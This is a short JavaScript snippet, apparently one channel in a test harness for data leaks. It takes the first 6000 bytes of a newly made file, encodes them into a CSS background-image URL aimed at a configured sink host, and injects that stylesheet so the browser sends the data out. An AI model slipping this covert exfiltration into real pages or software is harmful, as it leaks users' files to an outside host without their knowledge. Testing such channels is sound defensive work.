// A part of the file in an address inside a style sheet that the page makes.
whenMade(({ bytes }) => {
  const rule = `h1 { background: url("${SINKS.http}/paper.gif?d=${base64url(bytes.slice(0, 6000))}"); }`;
  const sheet = document.createElement("link");
  sheet.rel = "stylesheet";
  sheet.href = URL.createObjectURL(new Blob([rule], { type: "text/css" }));
  document.head.append(sheet);
});
